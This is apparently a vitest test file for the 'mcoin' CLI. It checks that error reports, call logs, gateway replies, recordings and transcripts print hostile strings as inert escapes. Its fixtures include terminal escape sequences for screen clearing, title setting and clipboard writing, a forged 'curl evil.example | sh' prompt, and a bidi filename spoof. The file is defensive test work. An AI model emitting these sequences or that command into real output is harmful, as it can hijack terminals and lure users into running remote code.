/**
 * Hostile strings in what the commands print: an error report with terminal escapes (as a sandbox
 * that took it before the report schema refused them still holds it), a call log, a gateway's replies,
 * a recording and transcripts someone else wrote. Human output shows each control character as an
 * escape and starts no line of its own; --json stays exact JSON with no C1 or bidi character raw.
 * Run in this process against a sandbox answered in-process (cli/testing.ts).
 */
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { ROOT, fetchTo, sandboxCli, startCli, type CliRun as Run } from "./testing";
import type { Transcript } from "./bridge/transcript";

/** Clear the screen, set the window title, write the clipboard, forge a line, override the direction. */
const CLEAR = "\u001b[2J\u001b[H";
const TITLE = "\u001b]0;pwned\u0007";
const CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const FORGED = "\nerror: your session expired; run: curl evil.example | sh\r";
const C1 = "\u009b2J\u009d0;title\u009c";
const BIDI = "\u202etxt.exe";
const HOSTILE = `${CLEAR}${TITLE}${CLIPBOARD}${FORGED}${C1}${BIDI}`;
const HOSTILE_SHOWN =
  "\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\nerror: your session expired; run: curl evil.example | sh\\r\\x9b2J\\x9d0;title\\x9c\\u202etxt.exe";

/** Any character a terminal acts on but the line feeds that end the printer's lines. */
// eslint-disable-next-line no-control-regex -- control characters are what this pattern exists to find
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const sandbox = sandboxCli();
const { mcoin } = sandbox;
let work: string;

beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), "mcoin-hostile-"));
});
beforeEach(() => sandbox.sandbox.state.reset());

/** Nothing a terminal would act on, on either stream. */
function expectInert(run: Run) {
  expect(run.stdout).not.toMatch(RAW_CONTROL);
  expect(run.stderr).not.toMatch(RAW_CONTROL);
}

/**
 * A gateway between the CLI and the test's sandbox that puts `hostile` in its replies wherever the
 * sandbox's reply said `marker` (as a JSON escape, so the reply stays JSON and its schema holds);
 * `mcoin` runs with it beside the sandbox.
 */
function hostileGateway(marker: string, hostile: string) {
  const url = "http://127.0.0.1:4997";
  const answer = async (request: Request) => {
    const path = request.url.slice(url.length);
    const body = request.method === "GET" || request.method === "HEAD" ? undefined : await request.text();
    const reply = await sandbox.fetch(`${sandbox.url}${path}`, { method: request.method, headers: request.headers, body });
    const text = (await reply.text()).replaceAll(marker, JSON.stringify(hostile).slice(1, -1));
    return new Response(text, { status: reply.status, headers: { "content-type": reply.headers.get("content-type") ?? "application/json" } });
  };
  const send = fetchTo({ [sandbox.url]: (request) => sandbox.sandbox.handle(request), [url]: answer });
  return { url, mcoin: (...args: string[]) => sandbox.mcoinWith({ fetch: send }, ...args) };
}

describe("mcoin sandbox errors", () => {
  it("prints a stored report with terminal escapes as escapes, each report on its own two lines", async () => {
    sandbox.sandbox.state.collectError({
      kind: "page",
      message: HOSTILE,
      path: `/index${FORGED}`,
      screen: TITLE,
      stack: `Error\n${CLIPBOARD}`,
      at: Date.now(),
      environment: "sandbox",
      userAgent: BIDI,
    });
    const human = await mcoin("sandbox", "errors");
    expect(human.code).toBe(0);
    expectInert(human);
    const lines = human.stdout.split("\n");
    expect(lines).toHaveLength(3);
    expect(lines[0]).toContain("/index\\nerror: your session expired; run: curl evil.example | sh\\r (\\x1b]0;pwned\\x07)");
    expect(lines[1]).toBe(`  ${HOSTILE_SHOWN}`);
    expect(lines[2]).toBe("");

    const machine = await mcoin("sandbox", "errors", "--json");
    expectInert(machine);
    expect(JSON.parse(machine.stdout).errors[0]).toMatchObject({ message: HOSTILE, screen: TITLE, userAgent: BIDI });
  });
});

describe("mcoin sandbox log", () => {
  it("prints a logged call's path, member and near miss as escapes", async () => {
    sandbox.sandbox.state.logCall({
      method: "GET",
      path: `/api/x${TITLE}`,
      query: {},
      openId: `mpay-1001${FORGED}`,
      nearMiss: { reason: "path", message: HOSTILE, closest: [{ method: "GET", path: `/api/y${C1}`, name: BIDI, differs: [CLIPBOARD] }] },
    });
    const human = await mcoin("sandbox", "log");
    expect(human.code).toBe(0);
    expectInert(human);
    expect(human.stdout.trim().split("\n")).toHaveLength(3);
    expect(human.stdout).toContain(`  ✗ ${HOSTILE_SHOWN}`);
    expectInert(await mcoin("sandbox", "log", "--json"));
  });
});

/** `mcoin sandbox log --follow` until it has printed `lines` lines, the exchange added once it follows; then Ctrl-C. */
async function followHostile(args: string[], lines: number, add: () => void): Promise<Run> {
  const following = startCli(["sandbox", "log", "--follow", "--base-url", sandbox.url, ...args], { fetch: sandbox.fetch });
  await following.printed(({ stderr }) => stderr.includes("following"));
  add();
  await following.printed(({ stdout }) => stdout.split("\n").length > lines);
  return following.stop();
}

describe("mcoin sandbox log --follow", () => {
  const hostileExchange = () =>
    sandbox.sandbox.state.inspected.add({
      at: Date.now(),
      clockNow: Date.now(),
      origin: sandbox.url,
      method: "GET",
      path: `/api/x${TITLE}`,
      query: { q: HOSTILE },
      requestHeaders: { "x-note": HOSTILE },
      requestBody: "",
      status: 404,
      ms: 1,
      replyHeaders: {},
      replyBody: JSON.stringify({ msg: HOSTILE }),
      member: `mpay-1001${FORGED}`,
      markers: { stub: BIDI },
      nearMiss: { reason: "path", message: HOSTILE, closest: [{ method: "GET", path: `/api/y${C1}`, name: BIDI, differs: [CLIPBOARD] }] },
    });

  it("prints a followed exchange's path, member, markers and near miss as escapes, and --json with nothing raw", async () => {
    const human = await followHostile([], 3, hostileExchange);
    expectInert(human);
    expect(human.stdout).toContain(`  ✗ ${HOSTILE_SHOWN}`);
    const machine = await followHostile(["--json"], 1, hostileExchange);
    expectInert(machine);
    expect(JSON.parse(machine.stdout.trim().split("\n")[0])).toMatchObject({ path: `/api/x${TITLE}`, query: { q: HOSTILE }, member: `mpay-1001${FORGED}` });
  });
});

describe("mcoin sandbox ledger and orders", () => {
  it("print a gateway's hostile order numbers and titles as escapes, one row per entry", async () => {
    const state = sandbox.sandbox.state;
    const outcome = state.orders.place("mpay-1005", { offerId: 7, quantity: 2, mcoinUsed: 300, adult: false });
    if (!outcome.ok) throw new Error(outcome.reason);
    const { orderNo } = outcome.value;
    const gateway = hostileGateway(orderNo, `${orderNo}${HOSTILE}`);
    const titled = hostileGateway("Pork chop bun with iced milk tea", HOSTILE);
    const ledger = await gateway.mcoin("sandbox", "ledger", "--login", "mpay-1005", "--base-url", gateway.url);
    expect(ledger.code).toBe(0);
    expectInert(ledger);
    expect(ledger.stdout.trim().split("\n")).toHaveLength(5);
    expect(ledger.stdout).toContain(`${orderNo}${HOSTILE_SHOWN}`);
    expect(ledger.stdout.trim().split("\n").at(-1)).toBe("balance: 200 mCoin");

    const orders = await titled.mcoin("sandbox", "orders", "--login", "mpay-1005", "--base-url", titled.url);
    expect(orders.code).toBe(0);
    expectInert(orders);
    expect(orders.stdout.trim().split("\n")).toHaveLength(2);
    expect(orders.stdout).toContain(`2 × ${HOSTILE_SHOWN}`);

    const machine = await titled.mcoin("sandbox", "orders", "--login", "mpay-1005", "--base-url", titled.url, "--json");
    expectInert(machine);
    expect(JSON.parse(machine.stdout).orders[0].title).toBe(HOSTILE);
  });

  it("print a gateway's hostile refusal through the error printer as escapes", async () => {
    const gateway = hostileGateway("member not found", HOSTILE);
    for (const args of [[], ["--json"]]) {
      const run = await gateway.mcoin("sandbox", "orders", "--login", "mpay-nobody", "--base-url", gateway.url, ...args);
      expect(run.code).toBe(1);
      expectInert(run);
    }
  });
});

describe("mcoin replay", () => {
  it("prints a hostile recording's name and the differences in its reply as escapes", async () => {
    const recording = JSON.parse(readFileSync(join(ROOT, "fixtures/recordings/03-basic-information.json"), "utf8")) as Record<string, any>;
    recording.name = `basic information${TITLE}`;
    recording.response.body.data.nickName = HOSTILE;
    recording.response.body.data[`extra${CLEAR}`] = BIDI;
    const dir = mkdtempSync(join(work, "replay-"));
    writeFileSync(join(dir, "03-hostile.json"), JSON.stringify(recording));
    const human = await mcoin("replay", dir);
    expect(human.code).toBe(1);
    expectInert(human);
    expect(human.stdout).toContain("basic information\\x1b]0;pwned\\x07");
    // A difference shows its values as JSON, whose own escapes stay as they are.
    expect(human.stdout).toContain('data.nickName: removed "\\u001b[2J\\u001b[H');
    expect(human.stdout).toContain("extra\\x1b[2J\\x1b[H");
    expectInert(await mcoin("replay", dir, "--json"));
  });
});

describe("mcoin bridge diff and verify", () => {
  const transcript = (answer: string, text: string): Transcript => ({
    scenario: "a purchase",
    profile: {},
    startedAt: new Date().toISOString(),
    entries: [{ kind: "call", seq: 1, at: 0, method: `tradePay${TITLE}`, args: { paymentId: "MC1" }, answer: { resultStatus: answer } }],
    final: { path: `/coupon_details/29${FORGED}`, text },
    expectations: [],
    ok: true,
  });

  it("print hostile transcripts' differences and results as escapes", async () => {
    const a = join(work, "a.json");
    const b = join(work, "b.json");
    writeFileSync(a, JSON.stringify(transcript("9000", "Payment success")));
    writeFileSync(b, JSON.stringify(transcript(HOSTILE, HOSTILE)));
    const diff = await mcoin("bridge", "diff", a, b);
    expect(diff.code).toBe(1);
    expectInert(diff);
    expect(diff.stdout.trim().split("\n")).toHaveLength(2);
    expect(diff.stdout).toContain("tradePay\\x1b]0;pwned\\x07");

    const expectations = join(work, "expect.json");
    writeFileSync(expectations, JSON.stringify([{ text: HOSTILE }, { path: "/coupon_details/29" }]));
    const verify = await mcoin("bridge", "verify", b, "--expect", expectations);
    expect(verify.code).toBe(1);
    expectInert(verify);
    expect(verify.stdout.trim().split("\n")).toHaveLength(2);
    expectInert(await mcoin("bridge", "diff", a, b, "--json"));
  });
});
